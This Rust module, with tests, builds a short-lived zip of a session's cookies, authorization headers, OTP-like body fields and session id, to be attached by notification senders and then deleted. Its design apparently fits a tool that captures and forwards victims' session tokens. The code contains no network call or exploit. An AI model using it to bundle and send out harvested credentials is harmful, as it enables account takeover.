//! Ephemeral zip archive carrying a session's token data.
//!
//! Every archive holds exactly five entries, written in a fixed order:
//!
//! ```text
//! <token>.zip
//! ├── Tokens-<token>.txt       ← pretty JSON of `tokens`
//! ├── HTTPTokens-<token>.txt   ← pretty JSON of `http_tokens`
//! ├── BodyTokens-<token>.txt   ← pretty JSON of `body_tokens`
//! ├── Custom-<token>.txt       ← pretty JSON of `custom`
//! └── SessionID-<token>.txt    ← raw session id
//! ```
//!
//! The archive lives only for one dispatch cycle. [`NotificationArchive::remove`]
//! deletes it and reports failures; dropping an archive that was never removed deletes
//! it on a best-effort basis so that early returns and panics do not leak files.

use crate::error::ArchiveError;
use crate::session::{Session, TokenMap};
use crate::token;
use sha2::{Digest, Sha256};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Seek, Write};
use std::path::{Path, PathBuf};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// Number of entries in every archive.
pub const ENTRY_COUNT: usize = 5;

/// The five kinds of archive entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EntryKind {
    Tokens,
    HttpTokens,
    BodyTokens,
    Custom,
    SessionId,
}

impl EntryKind {
    pub const ALL: [EntryKind; ENTRY_COUNT] = [
        EntryKind::Tokens,
        EntryKind::HttpTokens,
        EntryKind::BodyTokens,
        EntryKind::Custom,
        EntryKind::SessionId,
    ];

    /// Entry-name prefix, also used to attribute serialization errors.
    pub fn prefix(self) -> &'static str {
        match self {
            EntryKind::Tokens => "Tokens",
            EntryKind::HttpTokens => "HTTPTokens",
            EntryKind::BodyTokens => "BodyTokens",
            EntryKind::Custom => "Custom",
            EntryKind::SessionId => "SessionID",
        }
    }

    /// Recover the kind from an entry name such as `HTTPTokens-a1B2c3D4e5.txt`.
    pub fn from_entry_name(name: &str) -> Option<Self> {
        let (prefix, _) = name.split_once('-')?;
        Self::ALL.into_iter().find(|k| k.prefix() == prefix)
    }

    fn entry_name(self) -> String {
        format!("{}-{}.txt", self.prefix(), token::generate())
    }
}

/// A built archive on disk. Owned by one dispatch cycle.
#[derive(Debug)]
pub struct NotificationArchive {
    path: PathBuf,
    entries: Vec<String>,
    size_bytes: u64,
    checksum: String,
    removed: bool,
}

impl NotificationArchive {
    /// Build an archive for `session` in the system temp directory.
    pub fn build(session: &Session) -> Result<Self, ArchiveError> {
        Self::build_in(&std::env::temp_dir(), session)
    }

    /// Build an archive for `session` inside `dir`.
    pub fn build_in(dir: &Path, session: &Session) -> Result<Self, ArchiveError> {
        Self::build_with(dir, session, |file| file)
    }

    /// Like [`build_in`](Self::build_in), writing through `wrap(file)`.
    fn build_with<W, F>(dir: &Path, session: &Session, wrap: F) -> Result<Self, ArchiveError>
    where
        W: Write + Seek,
        F: FnOnce(File) -> W,
    {
        // Serialize first so a bad map never leaves a file behind.
        let blobs = serialize_groups(session)?;

        let path = dir.join(format!("{}.zip", token::generate()));
        let file = OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&path)
            .map_err(|source| ArchiveError::Create {
                path: path.clone(),
                source,
            })?;

        let entries = match write_entries(wrap(file), &path, blobs) {
            Ok(entries) => entries,
            Err(e) => {
                // The writer and file handle are already dropped here.
                if let Err(rm) = fs::remove_file(&path) {
                    log::warn!("Could not remove partial archive {}: {}", path.display(), rm);
                }
                return Err(e);
            }
        };

        let mut archive = Self {
            path,
            entries,
            size_bytes: 0,
            checksum: String::new(),
            removed: false,
        };
        // On failure `archive` drops here and takes the file with it.
        let (size_bytes, checksum) =
            inspect(&archive.path).map_err(|source| ArchiveError::Inspect {
                path: archive.path.clone(),
                source,
            })?;
        archive.size_bytes = size_bytes;
        archive.checksum = checksum;

        log::info!(
            "Archive built: {} ({} bytes, sha256 {})",
            archive.path.display(),
            archive.size_bytes,
            archive.checksum
        );
        Ok(archive)
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// File name used as the attachment name by channel senders.
    pub fn file_name(&self) -> String {
        attachment_name(&self.path)
    }

    /// Entry names in write order.
    pub fn entry_names(&self) -> &[String] {
        &self.entries
    }

    pub fn size_bytes(&self) -> u64 {
        self.size_bytes
    }

    /// Hex SHA-256 of the finished file.
    pub fn checksum(&self) -> &str {
        &self.checksum
    }

    /// Delete the archive from disk.
    pub fn remove(mut self) -> io::Result<()> {
        self.removed = true;
        fs::remove_file(&self.path)
    }
}

impl Drop for NotificationArchive {
    fn drop(&mut self) {
        if self.removed {
            return;
        }
        match fs::remove_file(&self.path) {
            Ok(()) => log::debug!("Archive {} removed on drop", self.path.display()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => {}
            Err(e) => log::warn!("Failed to remove archive {} on drop: {}", self.path.display(), e),
        }
    }
}

/// Attachment name for an archive path; falls back to `session.zip`.
pub fn attachment_name(path: &Path) -> String {
    path.file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "session.zip".to_string())
}

fn serialize_map(kind: EntryKind, map: &TokenMap) -> Result<Vec<u8>, ArchiveError> {
    serde_json::to_vec_pretty(map).map_err(|source| ArchiveError::Serialize {
        category: kind.prefix(),
        source,
    })
}

fn serialize_groups(session: &Session) -> Result<Vec<(EntryKind, Vec<u8>)>, ArchiveError> {
    Ok(vec![
        (EntryKind::Tokens, serialize_map(EntryKind::Tokens, &session.tokens)?),
        (EntryKind::HttpTokens, serialize_map(EntryKind::HttpTokens, &session.http_tokens)?),
        (EntryKind::BodyTokens, serialize_map(EntryKind::BodyTokens, &session.body_tokens)?),
        (EntryKind::Custom, serialize_map(EntryKind::Custom, &session.custom)?),
        (EntryKind::SessionId, session.session_id.as_bytes().to_vec()),
    ])
}

fn write_entries<W: Write + Seek>(
    writer: W,
    path: &Path,
    blobs: Vec<(EntryKind, Vec<u8>)>,
) -> Result<Vec<String>, ArchiveError> {
    let mut zip = ZipWriter::new(writer);
    let mut names = Vec::with_capacity(blobs.len());

    for (kind, body) in blobs {
        let name = kind.entry_name();
        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
        zip.start_file(name.as_str(), options)
            .map_err(|source| ArchiveError::Entry {
                name: name.clone(),
                source,
            })?;
        zip.write_all(&body).map_err(|source| ArchiveError::Write {
            name: name.clone(),
            source,
        })?;
        names.push(name);
    }

    // Finish the central directory and flush before anyone reads the file.
    let mut writer = zip.finish().map_err(|source| ArchiveError::Finish {
        path: path.to_path_buf(),
        source,
    })?;
    writer.flush().map_err(|source| ArchiveError::Finish {
        path: path.to_path_buf(),
        source: source.into(),
    })?;
    Ok(names)
}

fn inspect(path: &Path) -> io::Result<(u64, String)> {
    let mut file = File::open(path)?;
    let mut hasher = Sha256::new();
    let mut buffer = vec![0; 8192];
    let mut size = 0u64;

    loop {
        let n = file.read(&mut buffer)?;
        if n == 0 {
            break;
        }
        size += n as u64;
        hasher.update(&buffer[..n]);
    }

    Ok((size, format!("{:x}", hasher.finalize())))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::collections::HashMap;
    use tempfile::TempDir;
    use std::io::{Cursor, SeekFrom};
    use zip::ZipArchive;

    /// Accepts `budget` bytes, then fails every write like a full disk.
    struct FailAfter<W> {
        inner: W,
        budget: usize,
    }

    impl<W> FailAfter<W> {
        fn new(inner: W, budget: usize) -> Self {
            Self { inner, budget }
        }
    }

    impl<W: Write> Write for FailAfter<W> {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            if self.budget == 0 {
                return Err(io::Error::new(io::ErrorKind::Other, "no space left on device"));
            }
            let n = self.inner.write(&buf[..buf.len().min(self.budget)])?;
            self.budget -= n;
            Ok(n)
        }

        fn flush(&mut self) -> io::Result<()> {
            self.inner.flush()
        }
    }

    impl<W: Seek> Seek for FailAfter<W> {
        fn seek(&mut self, pos: SeekFrom) -> io::Result<u64> {
            self.inner.seek(pos)
        }
    }

    fn full_size(session: &Session) -> usize {
        let blobs = serialize_groups(session).unwrap();
        let mut cursor = Cursor::new(Vec::new());
        write_entries(&mut cursor, Path::new("mem.zip"), blobs).unwrap();
        cursor.into_inner().len()
    }

    fn sample_session() -> Session {
        let mut s = Session {
            session_id: "sess-123".to_string(),
            username: "bob".to_string(),
            password: "hunter2".to_string(),
            ..Session::default()
        };
        s.tokens.insert("a".to_string(), json!("1"));
        s.tokens
            .insert(".example.com".to_string(), json!({"sid": {"Value": "abc", "HttpOnly": true}}));
        s.http_tokens.insert("Authorization".to_string(), json!("Bearer xyz"));
        s.body_tokens.insert("otp".to_string(), json!(123456));
        s.custom.insert("note".to_string(), json!(["x", null, 2.5]));
        s
    }

    fn read_entries(path: &Path) -> HashMap<String, String> {
        let mut zip = ZipArchive::new(File::open(path).unwrap()).unwrap();
        let mut out = HashMap::new();
        for i in 0..zip.len() {
            let mut entry = zip.by_index(i).unwrap();
            let mut body = String::new();
            entry.read_to_string(&mut body).unwrap();
            out.insert(entry.name().to_string(), body);
        }
        out
    }

    #[test]
    fn builds_five_named_entries() {
        let temp = TempDir::new().unwrap();
        let archive = NotificationArchive::build_in(temp.path(), &sample_session()).unwrap();

        assert!(archive.path().exists());
        assert!(archive.file_name().ends_with(".zip"));
        assert_eq!(archive.file_name().len(), token::TOKEN_LEN + 4);
        assert_eq!(archive.entry_names().len(), ENTRY_COUNT);
        assert!(archive.size_bytes() > 0);
        assert_eq!(archive.checksum().len(), 64);

        let kinds: Vec<_> = archive
            .entry_names()
            .iter()
            .map(|n| EntryKind::from_entry_name(n).unwrap())
            .collect();
        assert_eq!(kinds, EntryKind::ALL.to_vec());
        for name in archive.entry_names() {
            assert!(name.ends_with(".txt"));
        }
    }

    #[test]
    fn json_entries_round_trip() {
        let temp = TempDir::new().unwrap();
        let session = sample_session();
        let archive = NotificationArchive::build_in(temp.path(), &session).unwrap();
        let entries = read_entries(archive.path());
        assert_eq!(entries.len(), ENTRY_COUNT);

        for (name, body) in &entries {
            match EntryKind::from_entry_name(name).unwrap() {
                EntryKind::Tokens => {
                    assert_eq!(serde_json::from_str::<TokenMap>(body).unwrap(), session.tokens)
                }
                EntryKind::HttpTokens => {
                    assert_eq!(serde_json::from_str::<TokenMap>(body).unwrap(), session.http_tokens)
                }
                EntryKind::BodyTokens => {
                    assert_eq!(serde_json::from_str::<TokenMap>(body).unwrap(), session.body_tokens)
                }
                EntryKind::Custom => {
                    assert_eq!(serde_json::from_str::<TokenMap>(body).unwrap(), session.custom)
                }
                EntryKind::SessionId => assert_eq!(body, "sess-123"),
            }
        }
    }

    #[test]
    fn json_is_indented() {
        let temp = TempDir::new().unwrap();
        let archive = NotificationArchive::build_in(temp.path(), &sample_session()).unwrap();
        let entries = read_entries(archive.path());
        let tokens = entries
            .iter()
            .find(|(n, _)| n.starts_with("Tokens-"))
            .map(|(_, b)| b.clone())
            .unwrap();
        assert!(tokens.contains("\n  \""), "expected two-space indentation: {tokens}");
    }

    #[test]
    fn empty_maps_still_produce_entries() {
        let temp = TempDir::new().unwrap();
        let archive = NotificationArchive::build_in(temp.path(), &Session::default()).unwrap();
        let entries = read_entries(archive.path());
        assert_eq!(entries.len(), ENTRY_COUNT);
        let custom = entries.iter().find(|(n, _)| n.starts_with("Custom-")).unwrap().1;
        assert_eq!(custom, "{}");
    }

    #[test]
    fn remove_deletes_file() {
        let temp = TempDir::new().unwrap();
        let archive = NotificationArchive::build_in(temp.path(), &sample_session()).unwrap();
        let path = archive.path().to_path_buf();
        archive.remove().unwrap();
        assert!(!path.exists());
    }

    #[test]
    fn remove_reports_missing_file() {
        let temp = TempDir::new().unwrap();
        let archive = NotificationArchive::build_in(temp.path(), &sample_session()).unwrap();
        fs::remove_file(archive.path()).unwrap();
        let err = archive.remove().unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::NotFound);
    }

    #[test]
    fn drop_cleans_up_unremoved_archive() {
        let temp = TempDir::new().unwrap();
        let path = {
            let archive = NotificationArchive::build_in(temp.path(), &sample_session()).unwrap();
            archive.path().to_path_buf()
        };
        assert!(!path.exists());
    }

    #[test]
    fn missing_directory_is_a_create_error() {
        let temp = TempDir::new().unwrap();
        let missing = temp.path().join("does-not-exist");
        let err = NotificationArchive::build_in(&missing, &sample_session()).unwrap_err();
        assert!(matches!(err, ArchiveError::Create { .. }), "got {err:?}");
        assert!(err.to_string().contains("failed to create archive file"));
    }

    #[test]
    fn entry_kind_parsing() {
        assert_eq!(EntryKind::from_entry_name("SessionID-abc.txt"), Some(EntryKind::SessionId));
        assert_eq!(EntryKind::from_entry_name("HTTPTokens-abc.txt"), Some(EntryKind::HttpTokens));
        assert_eq!(EntryKind::from_entry_name("Other-abc.txt"), None);
        assert_eq!(EntryKind::from_entry_name("noprefix"), None);
    }

    #[test]
    fn first_entry_failure_names_the_entry() {
        let blobs = serialize_groups(&sample_session()).unwrap();
        let writer = FailAfter::new(Cursor::new(Vec::new()), 0);
        let err = write_entries(writer, Path::new("mem.zip"), blobs).unwrap_err();
        match err {
            ArchiveError::Entry { name, .. } => assert!(name.starts_with("Tokens-"), "{name}"),
            other => panic!("expected entry error, got {other:?}"),
        }
    }

    #[test]
    fn every_short_write_is_an_archive_error() {
        let session = sample_session();
        let total = full_size(&session);
        for budget in (0..total).step_by(17) {
            let blobs = serialize_groups(&session).unwrap();
            let writer = FailAfter::new(Cursor::new(Vec::new()), budget);
            let err = write_entries(writer, Path::new("mem.zip"), blobs).unwrap_err();
            match &err {
                ArchiveError::Entry { name, .. } | ArchiveError::Write { name, .. } => {
                    assert!(EntryKind::from_entry_name(name).is_some(), "budget {budget}: {err}")
                }
                ArchiveError::Finish { path, .. } => assert_eq!(path, Path::new("mem.zip")),
                other => panic!("budget {budget}: unexpected {other:?}"),
            }
        }
    }

    #[test]
    fn failed_write_leaves_no_partial_file() {
        let temp = TempDir::new().unwrap();
        let session = sample_session();
        let total = full_size(&session);
        for budget in [0, 64, total / 2, total - 1] {
            let err = NotificationArchive::build_with(temp.path(), &session, |file| {
                FailAfter::new(file, budget)
            })
            .unwrap_err();
            assert!(
                matches!(
                    err,
                    ArchiveError::Entry { .. } | ArchiveError::Write { .. } | ArchiveError::Finish { .. }
                ),
                "budget {budget}: {err:?}"
            );
            assert!(fs::read_dir(temp.path()).unwrap().next().is_none(), "budget {budget}");
        }
    }
}
